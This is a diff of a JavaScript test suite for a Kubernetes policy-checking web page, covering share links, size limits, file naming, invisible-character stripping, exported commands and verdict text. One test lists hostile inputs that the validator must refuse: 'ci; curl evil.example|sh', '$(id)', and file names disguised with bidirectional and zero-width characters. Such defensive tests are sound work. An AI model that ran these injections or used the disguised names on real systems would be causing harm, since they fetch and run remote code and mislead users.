@@ -36,7 +36,10 @@ test("of a link only what is known is taken, and each name once", async () => {
   assert.deepEqual(await fromFragment(await toFragment(given)), expected);
   const start = { view: "check", shown: 0, columns: ["pss-baseline", "pss-restricted", "ci"], selected: undefined };
   assert.deepEqual(read(STATE), { ...STATE, ...start });
-  await assert.rejects(fromFragment("#2.abcdef"), /another version/);
+  await assert.rejects(fromFragment("#2.abcdef"), /^Error: it was made by another version of this page$/);
+  for (const broken of ["#1.AAAA", "#1.%", (await toFragment(STATE)).slice(0, -9)]) {
+    await assert.rejects(fromFragment(broken), /^Error: it is damaged, or only a part of it was copied$/, broken);
+  }
   assert.deepEqual(["#1.a", "#2.a", "#main", ""].map(isLink), [true, true, false, false]);
 });
 
@@ -48,9 +51,91 @@ test("what is no state, or names what does harm in a shell, is refused", async (
     { ...STATE, manifests: [{ source: "", text: "" }] }, { ...STATE, policies: [{ path: "a\rb", text: "" }] },
     { ...STATE, profiles: ["ci; curl evil.example|sh\n"] }, { ...STATE, profiles: ["$(id)"] }, { ...STATE, profiles: ["-x"] },
     { ...STATE, columns: ["a b"] }, { ...STATE, view: "else" }, { ...STATE, shown: 1 }, { ...STATE, shown: -1 }, { ...STATE, shown: 0.5 },
-    { ...STATE, selected: {} },
+    { ...STATE, selected: {} }, { ...STATE, manifests: [{ source: "a\u202elmay.exe", text: "" }] },
+    { ...STATE, policies: [{ path: "a\u200b.rego", text: "" }] }, { ...STATE, manifests: [{ source: "a".repeat(1025), text: "" }] },
   ];
   for (const value of wrong) assert.throws(() => read(value), /the link holds no state of this page/, JSON.stringify(value));
+});
+
+test("a link holds what a page can open, and one that holds more is neither made nor opened", async () => {
+  const { fromFragment, read, toFragment } = await load("state/share.ts");
+  const many = (count) => Array.from({ length: count }, () => ({ source: "a.yaml", text: "" }));
+  const names = read({ ...STATE, manifests: many(500) }).manifests.map(({ source }) => source);
+  assert.deepEqual([new Set(names).size, ...names.slice(0, 3), names.at(-1)], [500, "a.yaml", "a-2.yaml", "a-3.yaml", "a-500.yaml"]);
+  assert.throws(() => read({ ...STATE, manifests: many(501) }), /the link holds 501 manifests, and at most 500 can be opened/);
+  assert.throws(() => read({ ...STATE, policies: many(2000) }), /the link holds 2000 policies, and at most 500 can be opened/);
+  assert.throws(() => read({ ...STATE, columns: Array(50).fill("ci") }), /the link holds 50 profiles side by side, and at most 8/);
+  assert.deepEqual(read({ ...STATE, columns: [] }).columns, ["pss-baseline", "pss-restricted", "ci"]);
+  await assert.rejects(toFragment({ ...STATE, manifests: many(501) }), /These are too many files for a link, which holds at most 500 of a kind/);
+  const large = (text) => ({ ...STATE, manifests: [{ source: "a.yaml", text }] });
+  await assert.rejects(toFragment(large("x".repeat(8 << 20))), /This is too large for a link, which holds at most 8 MB/);
+  let [seed, noise] = [1, ""];
+  while (noise.length < 2e6) noise += (seed = (seed * 48271) % 2147483647).toString(36);
+  await assert.rejects(toFragment(large(noise)), /This is too large for a link: not every browser opens one that long/);
+  const most = large("x".repeat((8 << 20) - 200));
+  assert.equal((await fromFragment(await toFragment(most))).manifests[0].text, most.manifests[0].text);
+});
+
+test("names are given out once each, in a time that grows with their number", async () => {
+  const { namer } = await load("state/state.ts");
+  const nameOf = namer(["b_test.rego"]);
+  assert.deepEqual(["a.yaml", "a.yaml", "a-2.yaml", "a.yaml", "b_test.rego", "c", "c"].map(nameOf), ["a.yaml", "a-2.yaml", "a-2-2.yaml", "a-3.yaml", "b-2_test.rego", "c", "c-2"]);
+  let looked = 0;
+  const has = Set.prototype.has;
+  Set.prototype.has = function counted(one) { looked += 1; return has.call(this, one); };
+  try {
+    const next = namer();
+    for (let count = 0; count < 2000; count += 1) next("a.yaml");
+  } finally {
+    Set.prototype.has = has;
+  }
+  assert.ok(looked < 10_000, `${looked} look-ups`);
+});
+
+test("what one does not see is shown in messages, and taken out of names", async () => {
+  const { visible, withoutUnseen } = await load("state/visible.ts");
+  const report = { findings: [{ message: "image \u202eb\u2066a\u200b\u0007\n\tend", line: 1 }], denied: true, none: null };
+  assert.deepEqual(visible(report), { findings: [{ message: "image \\u{202e}b\\u{2066}a\\u{200b}\\u{7}\n\tend", line: 1 }], denied: true, none: null });
+  assert.equal(withoutUnseen("a\u202elmay.\u00adexe\n"), "almay.exe");
+});
+
+test("exported files lie beside each other, and none is taken for what it is not", async () => {
+  const { allFiles, command } = await load("state/files.ts");
+  const { manifests, policies, profiles, settings } = await load("state/state.ts");
+  const long = `${"d/".repeat(60)}`;
+  const names = [
+    "podgate.yaml", "PODGATE.YAML", "policies", "policies/x.rego", "-", "pod.yaml", "./pod.yaml", "../Pod.yaml", "pod.yaml/a.yaml", "a/b", "a",
+    `${long}1/pod.yaml`, `${long}2/pod.yaml`, `x${"é".repeat(90)}.yaml`, `y${"é".repeat(90)}.yaml`,
+  ];
+  manifests.value = names.map((source) => ({ source, text: source }));
+  settings.value = "profiles: [ci]\n";
+  profiles.value = [];
+  policies.value = ["a.rego", "./a.rego", "b_test.rego", "c.txt"].map((path) => ({ path, text: path }));
+  const files = allFiles();
+  assert.deepEqual(files.slice(0, 11).map(({ name }) => name), [
+    "manifests/podgate.yaml", "manifests-PODGATE.YAML", "manifests/policies", "manifests-policies-x.rego", "manifests/-",
+    "pod.yaml", "pod-2.yaml", "Pod-2-2.yaml", "pod.yaml-a.yaml", "a/b", "a-2",
+  ]);
+  const placed = files.map(({ name }) => name.toLowerCase());
+  assert.equal(new Set(placed).size, names.length + 5);
+  for (const name of placed) {
+    assert.ok(new TextEncoder().encode(name).length <= 100 && !name.startsWith("/"), name);
+    assert.ok(!placed.some((other) => other.startsWith(`${name}/`)), name);
+  }
+  assert.deepEqual(files.filter(({ name }) => !name.startsWith("policies/")).map(({ text }) => text), [...names, settings.value]);
+  assert.deepEqual(placed.filter((name) => name.startsWith("policies/")), ["policies/a.rego", "policies/a-2.rego", "policies/b_test.rego", "policies/c.txt.rego"]);
+  const printed = execFileSync("sh", ["-c", `podgate() { printf '%s\\n' "$@"; }\n${command()}`], { encoding: "utf8" }).split("\n").slice(0, -1);
+  assert.deepEqual(printed.slice(0, 5), ["check", "--settings", "podgate.yaml", "--policies", "policies/"]);
+  assert.deepEqual(printed.slice(5), files.slice(0, names.length).map(({ name }) => name));
+});
+
+test("two copies of a policy have names and ids of their own", async () => {
+  const { copyPolicy, idOf } = await load("state/rego.ts");
+  const { policies } = await load("state/state.ts");
+  policies.value = [];
+  const policy = { id: "CI201", path: "ci/privileged/privileged.rego", rego: "# METADATA\n# custom:\n#   id: CI201\n#   name: privileged\npackage podgate.ci.privileged\n" };
+  assert.deepEqual([copyPolicy(policy), copyPolicy(policy)], ["my_privileged.rego", "my_privileged-2.rego"]);
+  assert.deepEqual(policies.value.map(({ text }) => [idOf(text), /^package (.*)/m.exec(text)[1]]), [["MY-CI201", "mine.my_privileged"], ["MY-CI201-2", "mine.my_privileged_2"]]);
 });
 
 test("a shell reads the command as it is meant, whatever files are called", async () => {
@@ -98,6 +183,10 @@ test("settings are changed where they are, and the rest stays, comments and all"
   for (const [text, expected] of OFF) same(await merged(text, { policies: { CI201: { mode: "off" } } }), expected, text);
   const more = await merged("exemptions:\n  - policies: [CI101] # a\n", { exemptions: [{ policies: ["CI104"], reason: "b" }] });
   assert.equal(more, "exemptions:\n  - policies: [CI101] # a\n  - policies: [CI104]\n    reason: b\n");
+  const twice = { policies: { CI506: { parameters: { registries: ["a/b"] } } }, exemptions: [{ policies: ["CI104"], match: { kinds: ["Pod"] } }] };
+  const once = await merged("policies:\n  CI506: {parameters: {registries: [c]}}\n", twice);
+  assert.equal(once, "policies:\n  CI506: {parameters: {registries: [c, a/b]}}\nexemptions:\n  - policies: [CI104]\n    match:\n      kinds: [Pod]\n");
+  assert.equal(await merged(once, twice), once);
   for (const broken of ["policies: [", "just words", "- a\n"]) await assert.rejects(merged(broken, { policies: { CI201: { mode: "off" } } }), broken);
 });
 
@@ -108,8 +197,9 @@ const REPORT = {
 
 test("clean is only where everything was judged and nothing was found", async () => {
   const { verdictOf } = await load("state/verdict.ts");
-  const of = (report, summary = {}) => {
-    const { tone, title, missing } = verdictOf({ ...REPORT, ...report, summary: { ...REPORT.summary, ...summary } });
+  const of = (report, summary = {}, { off = [], isIdle = false, missed = [] } = {}) => {
+    const judged = { report: { ...REPORT, ...report, summary: { ...REPORT.summary, ...summary } }, off, isIdle };
+    const { tone, title, missing } = verdictOf(judged, missed);
     return [tone, title, ...missing];
   };
   const counts = (more) => ({ findings: { ...REPORT.summary.findings, ...more } });
@@ -119,6 +209,10 @@ test("clean is only where everything was judged and nothing was found", async ()
   assert.deepEqual(of({ notEvaluated: [{ cause: "empty" }] }), ["clean", "Clean"]);
   assert.deepEqual(of({ subjects: [] }), ["none", "Nothing to judge"]);
   assert.deepEqual(of({}, { exempted: 2 }), ["none", "Clean, 2 exempted"]);
+  assert.deepEqual(of({}, {}, { off: ["CI101"] }), ["none", "Clean, with 1 policy switched off"]);
+  assert.deepEqual(of(audits, counts({ low: 1 }), { off: ["CI101"] }), ["none", "Passes"]);
+  assert.deepEqual(of({}, {}, { off: ["CI101", "CI102"], isIdle: true }), ["none", "No policy judges"]);
+  assert.deepEqual(of({}, {}, { missed: [{ name: "big.yaml" }] }), ["none", "Not all could be judged", "1 file not read"]);
   assert.deepEqual(of(gap), ["none", "Not all could be judged", "1 not evaluated"]);
   assert.deepEqual(of({ subjects: [] }, { failedPolicies: 1 }), ["none", "Not all could be judged", "1 policy failed"]);
   assert.deepEqual(of(denies, { denied: true, ...counts({ high: 1 }) }), ["denied", "Refused"]);
